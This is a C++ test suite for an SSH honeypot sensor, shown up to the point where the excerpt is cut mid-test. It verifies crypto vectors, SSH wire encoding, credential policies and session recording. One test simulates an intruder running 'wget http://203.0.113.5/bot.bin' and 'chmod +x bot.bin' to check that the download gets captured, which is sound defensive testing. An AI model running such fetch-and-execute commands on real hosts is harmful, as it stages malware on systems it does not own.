#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest.h>

#include <atomic>
#include <chrono>
#include <thread>

#include "honeykit/artifacts.hpp"
#include "honeykit/net.hpp"
#include "honeykit/sha256.hpp"
#include "honeykit/sink.hpp"
#include "honeykit/ssh.hpp"
#include "honeykit/sshcrypto.hpp"
#include "honeykit/sshwire.hpp"
#include "honeykit/ttyrec.hpp"
#include "honeykit/util.hpp"
#include "support.hpp"

using namespace honeykit;
using namespace honeykit::sshwire;
using testsupport::TempDir;

namespace {

std::string unhex(std::string_view h) {
    auto b = hex_decode(h);
    REQUIRE(b.has_value());
    return *b;
}

template <typename Pred>
bool wait_for(Pred&& pred, int timeout_ms = 8000) {
    auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(timeout_ms);
    for (;;) {
        if (pred()) return true;
        if (std::chrono::steady_clock::now() >= deadline) return pred();
        std::this_thread::sleep_for(std::chrono::milliseconds(10));
    }
}

template <typename T>
std::vector<T> bodies_of(const std::vector<EventEnvelope>& evs, EventKind k) {
    std::vector<T> out;
    for (const auto& e : evs)
        if (e.kind == k) out.push_back(std::get<T>(e.body));
    return out;
}

int64_t steady_now_ms() {
    return std::chrono::duration_cast<std::chrono::milliseconds>(
               std::chrono::steady_clock::now().time_since_epoch())
        .count();
}

} // namespace

// ---------------------------------------------------------------------------
// crypto primitives against published vectors

TEST_CASE("x25519 matches RFC 7748 vectors") {
    // section 5.2, first iteration vector
    std::string scalar = unhex("a546e36bf0527c9d3b16154b82465edd62144c0ac1fc5a18506a2244ba449ac4");
    std::string point = unhex("e6db6867583030db3594c1a424b15f7c726624ec26b3353b10a903a6d0ab1c4c");
    CHECK(hex_encode(x25519_shared_secret(scalar, point)) ==
          "c3da55379de9c6908e94ea4df28d084f32eccf03491c71f754b4075577a28552");

    // section 6.1 Diffie-Hellman
    std::string alice_priv =
        unhex("77076d0a7318a57d3c16c17251b26645df4c2f87ebc0992ab177fba51db92c2a");
    std::string bob_priv =
        unhex("5dab087e624a8a4b79e17f8b83800ee66f3bb1292618b6fd1c2f8b27ff88e0eb");
    auto alice = x25519_from_private(alice_priv);
    auto bob = x25519_from_private(bob_priv);
    CHECK(hex_encode(alice.public_key) ==
          "8520f0098930a754748b7ddcb43ef75a0dbf3a0d26381af4eba4a98eaa9b4e6a");
    CHECK(hex_encode(bob.public_key) ==
          "de9edb7d7b7dc1b4d35b61c2ece435373f8343c85b78674dadfc7e146f882b4f");
    std::string k1 = x25519_shared_secret(alice.private_key, bob.public_key);
    std::string k2 = x25519_shared_secret(bob.private_key, alice.public_key);
    CHECK(k1 == k2);
    CHECK(hex_encode(k1) == "4a5d9d5ba4ce2de1728e3bf480350f25e07e21c947d19e3376f09b3c1e161742");

    CHECK_THROWS_AS(x25519_shared_secret(alice.private_key, "short"), std::runtime_error);
    // all-zero shared secrets (low-order peer point) must be refused
    CHECK_THROWS_AS(x25519_shared_secret(alice.private_key, std::string(32, '\0')),
                    std::runtime_error);

    auto ephemeral = x25519_generate();
    CHECK(ephemeral.public_key.size() == 32);
    CHECK(ephemeral.private_key.size() == 32);
    CHECK(x25519_from_private(ephemeral.private_key).public_key == ephemeral.public_key);
}

TEST_CASE("ed25519 matches RFC 8032 vectors") {
    struct Vector {
        const char *seed, *pub, *msg, *sig;
    };
    const Vector vectors[] = {
        {"9d61b19deffd5a60ba844af492ec2cc44449c5697b326919703bac031cae7f60",
         "d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a", "",
         "e5564300c360ac729086e2cc806e828a84877f1eb8e5d974d873e065224901555fb8821590a33bacc61e3"
         "9701cf9b46bd25bf5f0595bbe24655141438e7a100b"},
        {"4ccd089b28ff96da9db6c346ec114e0f5b8a319f35aba624da8cf6ed4fb8a6fb",
         "3d4017c3e843895a92b70aa74d1b7ebc9c982ccf2ec4968cc0cd55f12af4660c", "72",
         "92a009a9f0d4cab8720e820b5f642540a2b27b5416503f8fb3762223ebdb69da085ac1e43e15996e458f3"
         "613d0f11d8c387b2eaeb4302aeeb00d291612bb0c00"},
        {"c5aa8df43f9f837bedb7442f31dcb7b166d38535076f094b85ce3a2e0b4458f7",
         "fc51cd8e6218a1a38da47ed00230f0580816ed13ba3303ac5deb911548908025", "af82",
         "6291d657deec24024827e69c3abe01a30ce548a284743a445e3680d7db5ac3ac18ff9b538d16f290ae67f"
         "760984dc6594a7c15e9716ed28dc027beceea1ec40a"},
    };
    for (const auto& v : vectors) {
        CAPTURE(v.pub);
        auto key = ed25519_from_seed(unhex(v.seed));
        CHECK(hex_encode(key.public_key) == v.pub);
        std::string msg = unhex(v.msg);
        std::string sig = ed25519_sign(key.seed, msg);
        CHECK(hex_encode(sig) == v.sig);
        CHECK(ed25519_verify(key.public_key, msg, sig));
        // any bit flip must invalidate
        std::string bad = sig;
        bad[3] ^= 0x20;
        CHECK_FALSE(ed25519_verify(key.public_key, msg, bad));
        std::string wrong_msg = msg + "x";
        CHECK_FALSE(ed25519_verify(key.public_key, wrong_msg, sig));
    }
    auto fresh = ed25519_generate();
    CHECK(fresh.seed.size() == 32);
    CHECK(ed25519_from_seed(fresh.seed).public_key == fresh.public_key);
    CHECK_THROWS_AS(ed25519_from_seed("tiny"), std::runtime_error);
}

TEST_CASE("hmac-sha256 matches RFC 4231 vectors") {
    CHECK(hex_encode(hmac_sha256(std::string(20, '\x0b'), "Hi There")) ==
          "b0344c61d8db38535ca8afceaf0bf12b881dc200c9833da726e9376c2e32cff7");
    CHECK(hex_encode(hmac_sha256("Jefe", "what do ya want for nothing?")) ==
          "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843");
    CHECK(hex_encode(hmac_sha256(std::string(20, '\xaa'), std::string(50, '\xdd'))) ==
          "773ea91e36800e46854db8ebd09181a72959098b3ef8c122d9635514ced565fe");
}

TEST_CASE("aes-128-ctr matches NIST SP 800-38A F.5.1") {
    std::string key = unhex("2b7e151628aed2a6abf7158809cf4f3c");
    std::string iv = unhex("f0f1f2f3f4f5f6f7f8f9fafbfcfdfeff");
    std::string plain = unhex("6bc1bee22e409f96e93d7e117393172a"
                              "ae2d8a571e03ac9c9eb76fac45af8e51"
                              "30c81c46a35ce411e5fbc1191a0a52ef"
                              "f69f2445df4f9b17ad2b417be66c3710");
    std::string want = "874d6191b620e3261bef6864990db6ce"
                       "9806f66b7970fdff8617187bb9fffdff"
                       "5ae4df3edbd5d35e5b4f09020db03eab"
                       "1e031dda2fbe03d1792170a0f3009cee";

    AesCtr128 enc(key, iv);
    CHECK(hex_encode(enc.crypt(plain)) == want);

    // counter state survives arbitrary chunking
    AesCtr128 chunked(key, iv);
    std::string got;
    size_t cuts[] = {1, 7, 9, 15, 32};
    size_t pos = 0;
    for (size_t c : cuts) {
        got += chunked.crypt(std::string_view(plain).substr(pos, c));
        pos += c;
    }
    got += chunked.crypt(std::string_view(plain).substr(pos));
    CHECK(hex_encode(got) == want);

    // CTR is an involution under the same key/iv
    AesCtr128 dec(key, iv);
    CHECK(dec.crypt(unhex(want)) == plain);

    CHECK_THROWS_AS(AesCtr128("short", iv), std::runtime_error);
}

TEST_CASE("sha256_raw agrees with the hex oracle") {
    CHECK(hex_encode(sha256_raw("abc")) == sha256_hex("abc"));
    CHECK(hex_encode(sha256_raw("")) == sha256_hex(""));
    CHECK(sha256_raw("abc").size() == 32);
    CHECK(hex_encode(sha256_raw("abc")) ==
          "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

TEST_CASE("random_bytes_crypto produces distinct output") {
    std::string a = random_bytes_crypto(32);
    std::string b = random_bytes_crypto(32);
    CHECK(a.size() == 32);
    CHECK(a != b);
    CHECK(random_bytes_crypto(0).empty());
}

// ---------------------------------------------------------------------------
// wire format

TEST_CASE("mpint encoding follows RFC 4251 section 5") {
    std::string b;
    put_mpint(b, "");
    CHECK(hex_encode(b) == "00000000");

    b.clear();
    put_mpint(b, unhex("09a378f9b2e332a7"));
    CHECK(hex_encode(b) == "0000000809a378f9b2e332a7");

    b.clear();
    put_mpint(b, unhex("80"));
    CHECK(hex_encode(b) == "000000020080"); // sign byte when the high bit is set

    b.clear();
    put_mpint(b, unhex("0000000080")); // leading zeros are stripped first
    CHECK(hex_encode(b) == "000000020080");

    b.clear();
    put_mpint(b, std::string(4, '\0')); // zero collapses to the empty mpint
    CHECK(hex_encode(b) == "00000000");
}

TEST_CASE("wire primitives round trip through the reader") {
    std::string b;
    put_u8(b, 0xfe);
    put_u32(b, 0xdeadbeef);
    put_bool(b, true);
    put_bool(b, false);
    put_string(b, "payload \x01\x02");
    put_namelist(b, {"aes128-ctr", "none"});
    put_namelist(b, {});
    put_string(b, "");

    Reader r(b);
    CHECK(r.u8() == 0xfe);
    CHECK(r.u32() == 0xdeadbeef);
    CHECK(r.boolean());
    CHECK_FALSE(r.boolean());
    CHECK(r.string() == "payload \x01\x02");
    CHECK(r.namelist() == std::vector<std::string>{"aes128-ctr", "none"});
    CHECK(r.namelist().empty());
    CHECK(r.string().empty());
    CHECK(r.remaining() == 0);
}

TEST_CASE("reader overruns throw") {
    std::string b;
    put_u32(b, 100); // declares more bytes than present
    b += "abc";
    Reader r(b);
    CHECK_THROWS_WITH_AS(r.string(), "short ssh payload", std::runtime_error);

    Reader r2("");
    CHECK_THROWS_AS(r2.u8(), std::runtime_error);

    std::string big;
    put_u8(big, 9);
    Reader r4(big);
    r4.u8();
    CHECK_THROWS_AS(r4.u32(), std::runtime_error);
}

// ---------------------------------------------------------------------------
// credential policy

TEST_CASE("handle_auth implements the three policies") {
    LoginAttempt a;
    a.remote_ip = "198.51.100.9";
    a.username = "root";
    a.password = "123456";

    CredentialPolicy deny;
    deny.mode = CredentialPolicy::Mode::deny_all;
    CHECK(handle_auth(a, deny, 0) == AuthDecision::reject);
    CHECK(handle_auth(a, deny, 99) == AuthDecision::reject);

    CredentialPolicy list;
    list.mode = CredentialPolicy::Mode::accept_list;
    list.accept_list = {{"root", "123456"}, {"admin", "admin"}};
    CHECK(handle_auth(a, list, 0) == AuthDecision::accept);
    a.password = "12345";
    CHECK(handle_auth(a, list, 0) == AuthDecision::reject);
    a.username = "admin";
    a.password = "admin";
    CHECK(handle_auth(a, list, 0) == AuthDecision::accept);
    a.password = "123456"; // right password, wrong pairing
    CHECK(handle_auth(a, list, 0) == AuthDecision::reject);

    CredentialPolicy after;
    after.mode = CredentialPolicy::Mode::accept_after_n;
    after.n_threshold = 3;
    CHECK(handle_auth(a, after, 0) == AuthDecision::reject);
    CHECK(handle_auth(a, after, 2) == AuthDecision::reject);
    CHECK(handle_auth(a, after, 3) == AuthDecision::accept);
    CHECK(handle_auth(a, after, 10) == AuthDecision::accept);
}

// ---------------------------------------------------------------------------
// transport pair over loopback

namespace {

struct PairResult {
    std::string error;
    std::string session_id;
    std::vector<std::string> received;
    SshErrorKind final_kind = SshErrorKind::timeout;
};

} // namespace

TEST_CASE("transport pair: kex, encrypted echo, ignore, disconnect") {
    Socket listener = tcp_listen("127.0.0.1", 0);
    uint16_t port = local_port(listener);
    Ed25519KeyPair host = ed25519_generate();

    const std::vector<size_t> sizes = {0, 1, 7, 15, 16, 17, 255, 4096, 100000};
    PairResult srv;
    std::thread server([&] {
        try {
            auto acc = tcp_accept(listener, nullptr, nullptr, 5000);
            if (!acc) {
                srv.error = "accept timeout";
                return;
            }
            SshTransport t(std::move(*acc), true, "SSH-2.0-echosrv", 5000);
            t.exchange_versions();
            t.run_kex(&host);
            srv.session_id = t.session_id();
            for (size_t i = 0; i < sizes.size(); i++) {
                std::string p = t.recv_packet(5000);
                srv.received.push_back(p);
                t.send_packet(p);
            }
            try {
                t.recv_packet(5000);
                srv.error = "expected disconnect";
            } catch (const SshError& e) {
                srv.final_kind = e.kind;
            }
        } catch (const std::exception& e) {
            srv.error = e.what();
        }
    });

    Socket conn = tcp_connect("127.0.0.1", port, 5000);
    SshTransport t(std::move(conn), false, "SSH-2.0-echocli", 5000);
    CHECK(t.exchange_versions() == "SSH-2.0-echosrv");
    t.run_kex(nullptr);
    CHECK(t.host_key_public() == host.public_key);
    CHECK(t.session_id().size() == 32);

    std::mt19937_64 rng(42);
    for (size_t n : sizes) {
        std::string payload(1, '\xc8'); // private-range message type
        payload += testsupport::random_bytes(rng, n);
        // interleave noise the peer must skip silently
        std::string ignore(1, static_cast<char>(SSH_MSG_IGNORE));
        put_string(ignore, "noise");
        t.send_packet(ignore);
        t.send_packet(payload);
        CHECK(t.recv_packet(5000) == payload);
    }
    t.send_disconnect(11, "done");
    server.join();

    CHECK(srv.error.empty());
    CHECK(srv.session_id == t.session_id());
    CHECK(srv.received.size() == sizes.size());
    CHECK(srv.final_kind == SshErrorKind::closed);
    CHECK(t.bytes_received() > 0);
}

TEST_CASE("transport rejects a wrong host key signature") {
    Socket listener = tcp_listen("127.0.0.1", 0);
    uint16_t port = local_port(listener);
    Ed25519KeyPair host = ed25519_generate();

    std::string srv_error;
    std::thread server([&] {
        try {
            auto acc = tcp_accept(listener, nullptr, nullptr, 5000);
            if (!acc) return;
            // a server that signs with a key other than the one it presents
            SshTransport t(std::move(*acc), true, "SSH-2.0-mitm", 5000);
            t.exchange_versions();
            Ed25519KeyPair other = ed25519_generate();
            other.public_key = host.public_key; // lie about the identity
            t.run_kex(&other);
        } catch (const std::exception& e) {
            srv_error = e.what();
        }
    });

    Socket conn = tcp_connect("127.0.0.1", port, 5000);
    SshTransport t(std::move(conn), false, "SSH-2.0-victim", 5000);
    t.exchange_versions();
    bool threw = false;
    try {
        t.run_kex(nullptr);
    } catch (const SshError& e) {
        threw = true;
        CHECK(e.kind == SshErrorKind::protocol);
        CHECK(std::string(e.what()).find("signature") != std::string::npos);
    }
    CHECK(threw);
    server.join();
}

// ---------------------------------------------------------------------------
// sensor integration

namespace {

struct Sensor {
    TempDir dir{"sshsensor"};
    std::shared_ptr<MemoryEventSink> sink = std::make_shared<MemoryEventSink>();
    std::optional<ArtifactStore> artifacts;
    std::unique_ptr<SshSensor> sensor;

    explicit Sensor(CredentialPolicy policy,
                    std::function<void(SshSensorConfig&)> tweak = {}, bool with_store = false) {
        SshSensorConfig cfg;
        cfg.port = 0;
        cfg.host_key_path = dir.file("host.key");
        cfg.recordings_dir = dir.file("recordings");
        cfg.idle_timeout_ms = 8000;
        if (with_store) {
            artifacts.emplace(dir.file("artifacts"));
            cfg.artifacts = &*artifacts;
        }
        if (tweak) tweak(cfg);
        sensor = std::make_unique<SshSensor>(std::move(cfg), std::move(policy), sink);
        sensor->start();
    }
    ~Sensor() {
        if (sensor) sensor->stop();
    }

    SshClient client(const std::string& banner = "") {
        SshClientConfig c;
        c.port = sensor->port();
        if (!banner.empty()) c.banner = banner;
        return SshClient(c);
    }
    std::vector<EventEnvelope> events() const { return sink->events(); }
    size_t count(EventKind k) const {
        size_t n = 0;
        for (const auto& e : events())
            if (e.kind == k) n++;
        return n;
    }
};

CredentialPolicy deny_all_policy() {
    CredentialPolicy p;
    p.mode = CredentialPolicy::Mode::deny_all;
    return p;
}

CredentialPolicy allow(std::set<std::pair<std::string, std::string>> creds) {
    CredentialPolicy p;
    p.mode = CredentialPolicy::Mode::accept_list;
    p.accept_list = std::move(creds);
    return p;
}

std::string raw_read_line(int fd) {
    std::string line;
    char c;
    while (true) {
        auto got = recv_some(fd, &c, 1, 3000);
        if (!got || *got == 0) break;
        if (c == '\n') break;
        line += c;
    }
    return line;
}

} // namespace

TEST_CASE("sensor logs every failed attempt and one connection event") {
    Sensor fx(deny_all_policy());
    SshClient c = fx.client();
    c.connect();
    CHECK(c.server_version() == "SSH-2.0-OpenSSH_5.1p1 Debian-5");
    CHECK(c.server_host_key() == fx.sensor->host_key().public_key);
    CHECK_FALSE(c.auth_password("root", "123456"));
    CHECK_FALSE(c.auth_password("root", "password"));
    CHECK_FALSE(c.auth_password("admin", "admin1"));
    c.close();

    REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= 1; }));
    auto logins = bodies_of<LoginAttempt>(fx.events(), EventKind::login_attempt);
    REQUIRE(logins.size() == 3);
    CHECK(logins[0].username == "root");
    CHECK(logins[0].password == "123456");
    CHECK(logins[1].password == "password");
    CHECK(logins[2].username == "admin");
    for (const auto& l : logins) {
        CHECK_FALSE(l.success);
        CHECK(l.remote_ip == "127.0.0.1");
        CHECK(l.client_banner == "SSH-2.0-OpenSSH_6.0p1 Debian-4+deb7u2");
    }
    CHECK(fx.sensor->failures_from("127.0.0.1") == 3);

    auto conns = bodies_of<ConnectionEvent>(fx.events(), EventKind::connection);
    REQUIRE(conns.size() == 1);
    CHECK(conns[0].outcome == ConnOutcome::completed);
    CHECK(conns[0].service_label == "ssh");
    CHECK(conns[0].remote_ip == "127.0.0.1");
    CHECK(conns[0].local_port == fx.sensor->port());
    CHECK(conns[0].transport == TransportKind::tcp);
    CHECK(conns[0].bytes_captured > 0);
    // the capture window starts at the first byte: the client's version line
    CHECK(conns[0].payload_hex.substr(0, 14) == hex_encode("SSH-2.0"));
    CHECK(fx.count(EventKind::session_start) == 0);
}

TEST_CASE("successful login runs a full recorded shell session") {
    std::string body = "\x7f"
                       "ELF fake bot payload";
    Sensor fx(allow({{"root", "123456"}}),
              [&](SshSensorConfig& cfg) {
                  cfg.fetcher = [body](const std::string&) {
                      FetchResult r;
                      r.ok = true;
                      r.body = body;
                      return r;
                  };
              },
              true);

    SshClient c = fx.client();
    c.connect();
    CHECK_FALSE(c.auth_password("root", "wrong"));
    CHECK(c.auth_password("root", "123456"));
    c.open_session();
    auto prompt = c.read_until("root@svr04:~# ", 8000);
    CHECK(prompt.found);

    c.send_line("uname -a");
    auto out = c.read_until("# ", 8000);
    CHECK(out.found);
    CHECK(out.text.find("Linux svr04 3.2.0-4-amd64") != std::string::npos);

    c.send_line("wget http://203.0.113.5/bot.bin");
    out = c.read_until("# ", 8000);
    CHECK(out.found);
    CHECK(out.text.find("saved") != std::string::npos);

    c.send_line("chmod +x bot.bin; ls -l bot.bin");
    out = c.read_until("# ", 8000);
    CHECK(out.found);
    CHECK(out.text.find("-rwxr-xr-x") != std::string::npos);

    c.send_line("exit");
    c.drain(1500);
    CHECK(c.session_closed());

    REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= 1; }));
    auto evs = fx.events();

    auto starts = bodies_of<ShellSession>(evs, EventKind::session_start);
    auto ends = bodies_of<ShellSession>(evs, EventKind::session_end);
    REQUIRE(starts.size() == 1);
    REQUIRE(ends.size() == 1);
    const auto& ses = ends[0];
    CHECK(ses.session_id == starts[0].session_id);
    CHECK(ses.session_id.size() == 26);
    CHECK(ses.username == "root");
    CHECK(ses.password == "123456");
    CHECK(ses.remote_ip == "127.0.0.1");
    CHECK(ses.started_at_ms >= starts[0].started_at_ms);
    CHECK(ses.ended_at_ms >= ses.started_at_ms);
    CHECK(starts[0].event_count == 0);

    std::vector<std::string> commands;
    size_t session_event_count = 0;
    for (const auto& e : evs) {
        if (e.kind != EventKind::session_event) continue;
        const auto& se = std::get<SessionEvent>(e.body);
        CHECK(se.session_id == ses.session_id);
        session_event_count++;
        if (se.kind == SessionEventKind::command)
            commands.push_back(std::get<CommandPayload>(se.payload).line);
    }
    CHECK(ses.event_count == session_event_count);
    CHECK(commands == std::vector<std::string>{"uname -a", "wget http://203.0.113.5/bot.bin",
                                               "chmod +x bot.bin; ls -l bot.bin", "exit"});

    auto downloads = bodies_of<DownloadRecord>(evs, EventKind::download);
    REQUIRE(downloads.size() == 1);
    CHECK(downloads[0].sha256 == sha256_hex(body));
    CHECK(downloads[0].url == "http://203.0.113.5/bot.bin");
    CHECK(downloads[0].session_id == ses.session_id);
    CHECK(downloads[0].remote_ip == "127.0.0.1");
    CHECK(downloads[0].size_bytes == body.size());
    CHECK_FALSE(downloads[0].truncated);

    auto rec_obj = fx.artifacts->read_object(sha256_hex(body));
    REQUIRE(rec_obj.has_value());
    CHECK(*rec_obj == body);

    // the tty recording replays the whole exchange
    CHECK(ses.tty_ref.find(ses.session_id) != std::string::npos);
    auto rec = load_recording(ses.tty_ref);
    CHECK(rec.session_id == ses.session_id);
    CHECK_FALSE(rec.truncated);
    std::string typed, shown;
    for (const auto& f : rec.frames)
        (f.direction == TtyDirection::input_from_client ? typed : shown) += f.payload;
    CHECK(typed.find("uname -a\r") != std::string::npos);
    CHECK(typed.find("exit\r") != std::string::npos);
    CHECK(shown.find("root@svr04:~# ") != std::string::npos);
    CHECK(shown.find("Linux svr04") != std::string::npos);

    auto conns = bodies_of<ConnectionEvent>(evs, EventKind::connection);
    REQUIRE(conns.size() == 1);
    CHECK(conns[0].outcome == ConnOutcome::completed);
}

TEST_CASE("auth limit disconnects the client") {
    Sensor fx(deny_all_policy(), [](SshSensorConfig& cfg) { cfg.auth_limit = 3; });
    SshClient c = fx.client();
    c.connect();
    CHECK_FALSE(c.auth_password("root", "a"));
    CHECK_FALSE(c.auth_password("root", "b"));
    bool cut = false;
    try {
        // the server replies FAILURE then DISCONNECT on the limit-hitting attempt
        if (!c.auth_password("root", "c")) c.auth_password("root", "d");
    } catch (const SshError& e) {
        cut = true;
        CHECK(e.kind == SshErrorKind::closed);
    }
    CHECK(cut);

    REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= 1; }));
    CHECK(fx.count(EventKind::login_attempt) == 3);
    CHECK(fx.sensor->failures_from("127.0.0.1") == 3);
}

TEST_CASE("non-password auth methods are refused without logging") {
    Sensor fx(deny_all_policy());
    Socket conn = tcp_connect("127.0.0.1", fx.sensor->port(), 5000);
    SshTransport t(std::move(conn), false, "SSH-2.0-probe", 5000);
    t.exchange_versions();
    t.run_kex(nullptr);

    std::string req;
    put_u8(req, SSH_MSG_SERVICE_REQUEST);
    put_string(req, "ssh-userauth");
    t.send_packet(req);
    std::string accept = t.recv_packet(5000);
    REQUIRE(static_cast<uint8_t>(accept[0]) == SSH_MSG_SERVICE_ACCEPT);

    std::string none;
    put_u8(none, SSH_MSG_USERAUTH_REQUEST);
    put_string(none, "root");
    put_string(none, "ssh-connection");
    put_string(none, "none");
    t.send_packet(none);
    std::string reply = t.recv_packet(5000);
    REQUIRE(static_cast<uint8_t>(reply[0]) == SSH_MSG_USERAUTH_FAILURE);
    Reader r(std::string_view(reply).substr(1));
    CHECK(r.namelist() == std::vector<std::string>{"password"});
    CHECK_FALSE(r.boolean());
    CHECK(fx.count(EventKind::login_attempt) == 0); // probing is not an attempt

    std::string pw;
    put_u8(pw, SSH_MSG_USERAUTH_REQUEST);
    put_string(pw, "root");
    put_string(pw, "ssh-connection");
    put_string(pw, "password");
    put_bool(pw, false);
    put_string(pw, "hunter2");
    t.send_packet(pw);
    reply = t.recv_packet(5000);
    CHECK(static_cast<uint8_t>(reply[0]) == SSH_MSG_USERAUTH_FAILURE);
    CHECK(wait_for([&] { return fx.count(EventKind::login_attempt) == 1; }));
    t.close();
}

TEST_CASE("garbage on the wire is a protocol_error contact") {
    Sensor fx(deny_all_policy());
    {
        Socket s = tcp_connect("127.0.0.1", fx.sensor->port(), 3000);
        std::string banner = raw_read_line(s.fd()); // server speaks first
        CHECK(banner.substr(0, 8) == "SSH-2.0-");
        std::string garbage = "GET / HTTP/1.1\r\nHost: evil\r\n\r\n";
        REQUIRE(send_all(s.fd(), garbage));
        REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= 1; }));

        auto conns = bodies_of<ConnectionEvent>(fx.events(), EventKind::connection);
        REQUIRE(conns.size() == 1);
        CHECK(conns[0].outcome == ConnOutcome::protocol_error);
        CHECK(conns[0].bytes_captured == garbage.size());
        CHECK(conns[0].payload_hex == hex_encode(garbage));
        CHECK(fx.count(EventKind::sensor_error) == 1);
    }
}

TEST_CASE("a port scan touch is still recorded") {
    Sensor fx(deny_all_policy());
    {
        Socket s = tcp_connect("127.0.0.1", fx.sensor->port(), 3000);
    } // connect and leave immediately
    REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= 1; }));
    auto conns = bodies_of<ConnectionEvent>(fx.events(), EventKind::connection);
    REQUIRE(conns.size() == 1);
    CHECK(conns[0].outcome == ConnOutcome::completed);
    CHECK(conns[0].bytes_captured == 0);
    CHECK(conns[0].payload_hex.empty());
}

TEST_CASE("accept_after_n flips once an ip has failed enough") {
    CredentialPolicy p;
    p.mode = CredentialPolicy::Mode::accept_after_n;
    p.n_threshold = 2;
    Sensor fx(p);

    SshClient first = fx.client();
    first.connect();
    CHECK_FALSE(first.auth_password("root", "111111"));
    CHECK_FALSE(first.auth_password("root", "222222"));
    first.close();
    CHECK(wait_for([&] { return fx.sensor->failures_from("127.0.0.1") == 2; }));

    SshClient second = fx.client();
    second.connect();
    CHECK(second.auth_password("guest", "anything"));
    second.close();

    REQUIRE(wait_for([&] { return fx.count(EventKind::login_attempt) >= 3; }));
    auto logins = bodies_of<LoginAttempt>(fx.events(), EventKind::login_attempt);
    REQUIRE(logins.size() == 3);
    CHECK_FALSE(logins[0].success);
    CHECK_FALSE(logins[1].success);
    CHECK(logins[2].success);
    CHECK(logins[2].username == "guest");
}

TEST_CASE("session cap refuses extra connections") {
    Sensor fx(allow({{"root", "123456"}}), [](SshSensorConfig& cfg) { cfg.max_sessions = 1; });
    SshClient holder = fx.client();
    holder.connect();
    CHECK(holder.auth_password("root", "123456"));
    holder.open_session();
    CHECK(holder.read_until("# ", 8000).found);

    SshClient second = fx.client();
    bool rejected = false;
    try {
        second.connect();
        second.auth_password("root", "123456");
    } catch (const std::exception&) {
        rejected = true;
    }
    CHECK(rejected);
    REQUIRE(wait_for([&] {
        auto conns = bodies_of<ConnectionEvent>(fx.events(), EventKind::connection);
        for (const auto& c : conns)
            if (c.outcome == ConnOutcome::refused) return true;
        return false;
    }));

    holder.send_line("exit");
    holder.drain(1500);
}

TEST_CASE("binary credentials and client banner are captured verbatim") {
    Sensor fx(deny_all_policy());
    SshClient c = fx.client("SSH-2.0-MegaBot_1.0");
    c.connect();
    std::string user(300, 'u');
    std::string pass = std::string("p\x01\xff\x00zz", 6);
    CHECK_FALSE(c.auth_password(user, pass));
    c.close();

    REQUIRE(wait_for([&] { return fx.count(EventKind::login_attempt) >= 1; }));
    auto logins = bodies_of<LoginAttempt>(fx.events(), EventKind::login_attempt);
    REQUIRE(logins.size() == 1);
    CHECK(logins[0].client_banner == "SSH-2.0-MegaBot_1.0");
    CHECK(logins[0].username == std::string(256, 'u')); // capped
    CHECK(logins[0].password == pass);
}

TEST_CASE("host key persists across restarts") {
    TempDir dir("hostkey");
    std::string key_path = dir.file("host.key");
    std::string first_pub;
    {
        SshSensorConfig cfg;
        cfg.port = 0;
        cfg.host_key_path = key_path;
        SshSensor sensor(cfg, deny_all_policy(), std::make_shared<MemoryEventSink>());
        sensor.start();
        first_pub = sensor.host_key().public_key;

        SshClientConfig cc;
        cc.port = sensor.port();
        SshClient c(cc);
        c.connect();
        CHECK(c.server_host_key() == first_pub);
        c.close();
        sensor.stop();
    }
    CHECK(std::filesystem::file_size(key_path) == 32);
    {
        SshSensorConfig cfg;
        cfg.port = 0;
        cfg.host_key_path = key_path;
        SshSensor sensor(cfg, deny_all_policy(), std::make_shared<MemoryEventSink>());
        sensor.start();
        CHECK(sensor.host_key().public_key == first_pub);
        sensor.stop();
    }
}

TEST_CASE("idle peers time out") {
    Sensor fx(deny_all_policy(), [](SshSensorConfig& cfg) { cfg.idle_timeout_ms = 400; });
    Socket s = tcp_connect("127.0.0.1", fx.sensor->port(), 3000);
    REQUIRE(send_all(s.fd(), "SSH-2.0-sleeper\r\n"));
    REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= 1; }, 6000));
    auto conns = bodies_of<ConnectionEvent>(fx.events(), EventKind::connection);
    REQUIRE(conns.size() == 1);
    CHECK(conns[0].outcome == ConnOutcome::timeout);
}

TEST_CASE("kex negotiation failure is a protocol_error contact") {
    Sensor fx(deny_all_policy());
    Socket s = tcp_connect("127.0.0.1", fx.sensor->port(), 3000);
    raw_read_line(s.fd());
    REQUIRE(send_all(s.fd(), "SSH-2.0-oldcipher\r\n"));

    std::string payload;
    put_u8(payload, SSH_MSG_KEXINIT);
    payload += std::string(16, '\x42');
    put_namelist(payload, {"diffie-hellman-group1-sha1"});
    put_namelist(payload, {"ssh-rsa"});
    put_namelist(payload, {"3des-cbc"});
    put_namelist(payload, {"3des-cbc"});
    put_namelist(payload, {"hmac-md5"});
    put_namelist(payload, {"hmac-md5"});
    put_namelist(payload, {"none"});
    put_namelist(payload, {"none"});
    put_namelist(payload, {});
    put_namelist(payload, {});
    put_bool(payload, false);
    put_u32(payload, 0);
    size_t pad = 8 - ((5 + payload.size()) % 8);
    if (pad < 4) pad += 8;
    std::string pkt;
    put_u32(pkt, static_cast<uint32_t>(1 + payload.size() + pad));
    put_u8(pkt, static_cast<uint8_t>(pad));
    pkt += payload;
    pkt += std::string(pad, '\0');
    REQUIRE(send_all(s.fd(), pkt));

    REQUIRE(wait_for([&] { return fx.count(EventKind::connection) >= 1; }));
    auto conns = bodies_of<ConnectionEvent>(fx.events(), EventKind::connection);
    REQUIRE(conns.size() == 1);
    CHECK(conns[0].outcome == ConnOutcome::protocol_error);
}

TEST_CASE("ten concurrent sessions stay isolated") {
    Sensor fx(allow({{"root", "123456"}}));
    constexpr int kSessions = 10;

    struct Run {
        std::string error;
        std::string ls_output;
        int id = 0;
    };
    std::vector<Run> runs(kSessions);
    std::vector<std::thread> threads;
    threads.reserve(kSessions);
    for (int i = 0; i < kSessions; i++) {
        threads.emplace_back([&fx, &runs, i] {
            runs[i].id = i;
            try {
                SshClientConfig cc;
                cc.port = fx.sensor->port();
                cc.timeout_ms = 15000;
                SshClient c(cc);
                c.connect();
                if (!c.auth_password("root", "123456")) {
                    runs[i].error = "auth rejected";
                    return;
